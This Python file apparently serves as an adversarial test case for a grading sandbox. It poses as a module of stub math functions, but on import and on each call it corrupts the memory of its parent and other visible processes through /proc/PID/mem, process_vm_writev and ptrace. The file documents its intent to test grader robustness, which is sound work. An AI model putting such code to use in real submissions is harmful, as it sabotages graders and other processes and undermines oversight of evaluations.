"""Writes garbage into the memory of its parent (the sandbox's warm process) and of every process it
can see: through /proc/PID/mem, process_vm_writev and ptrace (PTRACE_POKEDATA after an attach).
Whatever it reaches, the grade must finish and no other row may change."""
import ctypes
import os
import random

_libc = ctypes.CDLL(None, use_errno=True)
GARBAGE = b"\xcc" * 4096


def _sandboxed():
    """Only ever reach past the parent inside a sandbox (a pid namespace of a few processes)."""
    try:
        return sum(1 for p in os.listdir("/proc") if p.isdigit()) <= 8
    except OSError:
        return False


def _targets():
    me = os.getpid()
    pids = [os.getppid()] + ([int(p) for p in os.listdir("/proc") if p.isdigit()] if _sandboxed() else [])
    return [p for p in dict.fromkeys(pids) if p != me]


def _writable_regions(pid):
    regions = []
    try:
        with open(f"/proc/{pid}/maps") as handle:
            for line in handle:
                parts = line.split()
                if len(parts) >= 2 and "w" in parts[1]:
                    start, end = (int(x, 16) for x in parts[0].split("-"))
                    regions.append((start, end))
    except OSError:
        pass
    return regions


def _proc_mem(pid, regions):
    try:
        fd = os.open(f"/proc/{pid}/mem", os.O_RDWR)
    except OSError:
        return
    try:
        for start, end in regions:
            for _ in range(4):
                at = random.randrange(start, max(start + 1, end - len(GARBAGE)))
                try:
                    os.pwrite(fd, GARBAGE[:max(1, min(len(GARBAGE), end - at))], at)
                except OSError:
                    pass
    finally:
        os.close(fd)


class _IOVec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]


def _vm_writev(pid, regions):
    local = ctypes.create_string_buffer(GARBAGE, len(GARBAGE))
    for start, end in regions:
        remote = _IOVec(start, min(len(GARBAGE), end - start))
        here = _IOVec(ctypes.addressof(local), remote.len)
        _libc.syscall(311, pid, ctypes.byref(here), 1, ctypes.byref(remote), 1, 0)  # process_vm_writev


def _ptrace_poke(pid, regions):
    ptrace = _libc.ptrace
    ptrace.restype = ctypes.c_long
    ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
    if ptrace(16, pid, None, None) != 0:  # PTRACE_ATTACH
        return
    try:
        os.waitpid(pid, 0x40000000)  # __WALL
    except OSError:
        pass
    for start, end in regions[:8]:
        ptrace(5, pid, ctypes.c_void_p(start), ctypes.c_void_p(0xCCCCCCCC))  # PTRACE_POKEDATA
    ptrace(17, pid, None, None)  # PTRACE_DETACH


def _attack():
    for pid in _targets():
        regions = _writable_regions(pid)
        _ptrace_poke(pid, regions)
        _vm_writev(pid, regions)
        _proc_mem(pid, regions)


_attack()


def scale(x, k):
    _attack()
    raise NotImplementedError("scale")


def mean(values):
    _attack()
    raise NotImplementedError("mean")


def nudge(x, lr):
    _attack()
    raise NotImplementedError("nudge")
